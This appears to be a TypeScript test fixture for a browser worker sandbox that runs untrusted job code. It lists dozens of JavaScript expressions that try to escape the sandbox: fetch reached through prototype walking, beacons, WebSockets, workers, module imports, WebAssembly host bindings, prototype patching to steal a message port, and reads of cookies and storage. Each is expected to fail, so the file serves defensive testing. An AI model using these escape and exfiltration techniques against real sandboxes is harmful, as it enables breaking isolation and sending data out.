/** Ways out of a tab that strangers' code may try. `URL` stands for a server that must never hear of it. */

/** Expressions of job code; each must come to nothing or throw. Names alone are in protocol/job/test/sandbox-attacks.ts. */
export const BY_JOB_CODE: Record<string, string> = {
  'fetch by the scope\'s prototypes': '(() => { for (let it = globalThis; it; it = Object.getPrototypeOf(it)) if (Reflect.has(it, "fetch")) return it.fetch("URL") })()',
  'fetch by a constructor\'s scope': '[].constructor.constructor("return this")().fetch("URL")',
  'fetch without CORS': 'fetch("URL", { mode: "no-cors", keepalive: true })',
  'a socket': 'new WebSocket("WSURL")',
  'a socket stream': 'new WebSocketStream("WSURL")',
  'a transport': 'new WebTransport("URL")',
  'an event source': 'new EventSource("URL")',
  'a beacon': 'navigator.sendBeacon("URL", "x")',
  'a request': 'new Request("URL")',
  'a font': 'new FontFace("x", "url(URL)").load()',
  'an image': 'new Image().src = "URL"',
  'a module by http': 'await import("URL/module.js")',
  'a module by data': 'await import("data:text/javascript,export const it = 1")',
  'a module by a blob of its own': 'await import(URL.createObjectURL(new Blob(["export const it = 1"])))',
  'a module by the sandbox\'s own blob': 'await import("blob:null/00000000-0000-0000-0000-000000000000")',
  'a module by a query on its own URL': 'await import(import.meta.url + "?again")',
  'a script': 'importScripts("URL")',
  'a worker by data': 'new Worker("data:text/javascript,1")',
  'a worker by a blob': 'new Worker(URL.createObjectURL(new Blob(["1"])))',
  'a worker by its own script': 'new Worker(location.href)',
  'a worker by the prototypes': '(it => it === Object ? null : it)(Object.getPrototypeOf(globalThis).constructor)',
  'a shared worker': 'new SharedWorker("data:text/javascript,1")',
  'a service worker': 'navigator.serviceWorker.register("URL")',
  'a channel to the page': 'new BroadcastChannel("x")',
  'a channel of messages': 'new MessageChannel()',
  'a message to the frame': 'postMessage("forged")',
  'a message by the prototypes': 'Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).postMessage',
  'an event of its own': 'dispatchEvent(new Event("message"))',
  'a listener': 'addEventListener("message", () => {})',
  'the parent': 'globalThis.parent ?? globalThis.top ?? globalThis.opener ?? globalThis.window',
  'the scope by its other names': 'globalThis.self ?? globalThis.frames ?? globalThis.global',
  'a document': 'document',
  'the place': 'location.href',
  'the origin': 'globalThis.origin',
  'the machine': 'navigator.hardwareConcurrency',
  'graphics without asking': 'globalThis.GPU ?? ctx.gpu ?? globalThis.navigator?.gpu',
  'a canvas': 'new OffscreenCanvas(1, 1)',
  'local storage': 'localStorage.getItem("secret")',
  'cookies': 'globalThis.cookieStore ?? document.cookie',
  'a database': 'indexedDB.open("x")',
  'a cache': 'await caches.open("x")',
  'files': 'await navigator.storage.getDirectory()',
  'a lock': 'navigator.locks',
  'keys and chance': 'crypto.getRandomValues(new Uint8Array(4))',
  'a notification': 'new Notification("x")',
  'a connection between peers': 'new RTCPeerConnection()',
  'the end of the worker': 'close()',
  'an interval': 'setInterval(() => {}, 1)',
  'an animation frame': 'requestAnimationFrame(() => {})',
  'the time by an event': 'new Event("x").timeStamp',
  'the time by performance\'s prototype': 'Object.getPrototypeOf(performance).now?.call(performance)',
  'shared memory by WebAssembly': 'new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }).buffer',
  'shared memory by the memory\'s constructor': 'new WebAssembly.Memory({ initial: 1 }).constructor === WebAssembly.Memory ? null : 1',
  'the network by compiling WebAssembly': 'WebAssembly.compileStreaming ?? WebAssembly.instantiateStreaming',
  'a host function by WebAssembly': '(() => { const bytes = new Uint8Array([0,97,115,109,1,0,0,0,1,4,1,96,0,0,2,7,1,1,101,1,102,0,0]); return new WebAssembly.Instance(new WebAssembly.Module(bytes), { e: { f: fetch } }) })()',
  'another scope by an array from elsewhere': '[ctx.params, ctx.random, ctx.sleep, ctx].map(it => Object.getPrototypeOf(it)).find(it => it !== Object.prototype && it !== Function.prototype)',
  'the sandbox\'s functions by their caller': '(() => { function f () { return f.caller } return ctx.sleep.caller ?? f() })()',
  'the sandbox\'s frames in a stack': '(() => { Error.prepareStackTrace = (_, frames) => frames; const frames = new Error().stack; Error.prepareStackTrace = undefined; return frames.map(it => it.getFunction() ?? it.getThis()).find(it => it !== undefined && it !== globalThis && it !== compute && !String(it).includes("prepareStackTrace")) })()',
  'the port by patched functions': `await (async () => {
    const found = []
    const apply = Reflect.apply
    const look = it => { try { if (it !== null && it !== undefined && typeof it === 'object' && (it.postMessage || it.onmessage !== undefined || it.createObjectURL)) found[found.length] = it } catch {} }
    const kept = []
    for (const [on, name] of [[Promise.prototype, 'then'], [Array.prototype, 'push'], [Map.prototype, 'set'], [Map.prototype, 'get'], [Set.prototype, 'add'], [Set.prototype, 'delete'], [Function.prototype, 'call'], [Function.prototype, 'apply'], [Function.prototype, 'bind'], [Array.prototype, Symbol.iterator], [Set.prototype, Symbol.iterator], [Uint8Array.prototype, 'slice'], [Object, 'freeze'], [Reflect, 'get'], [Reflect, 'apply']]) {
      const native = on[name]
      kept[kept.length] = [on, name, native]
      Object.defineProperty(on, name, { configurable: true, writable: true, value: function (...args) { look(this); for (let i = 0; i < args.length; i++) look(args[i]); return apply(native, this, args) } })
    }
    for (const name of ['data', 'ports', 'source', 'target', 'onmessage', 'transfer', 'then']) Object.defineProperty(Object.prototype, name, { configurable: true, get () { look(this) }, set () { look(this) } })
    await ctx.sleep(60)
    for (const name of ['data', 'ports', 'source', 'target', 'onmessage', 'transfer', 'then']) delete Object.prototype[name]
    for (let i = 0; i < kept.length; i++) Object.defineProperty(kept[i][0], kept[i][1], { configurable: true, writable: true, value: kept[i][2] })
    return found[0]
  })()`
}

/**
 * The same from a worker that nothing was taken from: only the frame's origin and its Content-Security-Policy stand in the way.
 * Each is a statement in an async function that returns what it got.
 */
export const BY_NATIVES: Record<string, string> = {
  fetch: 'return (await fetch("URL")).status',
  'fetch without CORS': 'return (await fetch("URL", { mode: "no-cors" })).type',
  'fetch that outlives': 'return (await fetch("URL", { mode: "no-cors", keepalive: true, method: "POST", body: "x" })).type',
  XMLHttpRequest: 'const it = new XMLHttpRequest(); it.open("GET", "URL", false); it.send(); return it.status',
  WebSocket: 'return await new Promise((got, not) => { const it = new WebSocket("WSURL"); it.onopen = got; it.onerror = not })',
  WebSocketStream: 'return await new WebSocketStream("WSURL").opened',
  EventSource: 'return await new Promise((got, not) => { const it = new EventSource("URL"); it.onopen = got; it.onerror = not })',
  WebTransport: 'return await new WebTransport("HTTPSURL").ready',
  import: 'return await import("URL/module.js")',
  'import data': 'return await import("data:text/javascript,export const it = 1")',
  importScripts: 'return importScripts("URL/script.js")',
  'importScripts data': 'return importScripts("data:text/javascript,1")',
  FontFace: 'return await new FontFace("x", "url(URL/font)").load()',
  'a worker by http': 'return await new Promise((got, not) => { const it = new Worker("URL/worker.js"); it.onmessage = got; it.onerror = not; setTimeout(not, 1000, "silence") })',
  'a worker by data': 'return await new Promise((got, not) => { const it = new Worker("data:text/javascript,postMessage(1)"); it.onmessage = got; it.onerror = not; setTimeout(not, 1000, "silence") })',
  'a worker by its own URL': 'await new Promise(done => setTimeout(done, 100)); return await new Promise((got, not) => { const it = new Worker(location.href); it.onmessage = got; it.onerror = not; it.postMessage(0); setTimeout(not, 1000, "silence") })',
  'the network from a worker of a worker': 'return await new Promise((got, not) => { const it = new Worker(URL.createObjectURL(new Blob([`fetch("URL", { mode: "no-cors" }).then(() => postMessage(1), () => close())`]))); it.onmessage = got; it.onerror = not; setTimeout(not, 1000, "silence") })',
  'a shared worker': 'return await new Promise((got, not) => { const it = new SharedWorker("URL/shared.js"); it.port.onmessage = got; it.onerror = not; setTimeout(not, 1000, "silence") })',
  'the page by BroadcastChannel': 'return await new Promise((got, not) => { const it = new BroadcastChannel("test"); it.onmessage = got; it.postMessage("hello"); setTimeout(not, 1000, "silence") })',
  'a database': 'return await new Promise((got, not) => { const it = indexedDB.open("x"); it.onsuccess = got; it.onerror = not })',
  'a cache': 'return await caches.open("x")',
  files: 'return await navigator.storage.getDirectory()',
  'a service worker': 'return await navigator.serviceWorker.register("URL/service.js")',
  cookies: 'return await cookieStore.getAll()',
  'a notification': 'if (Notification.permission === "denied") throw 0; return new Notification("x")'
}
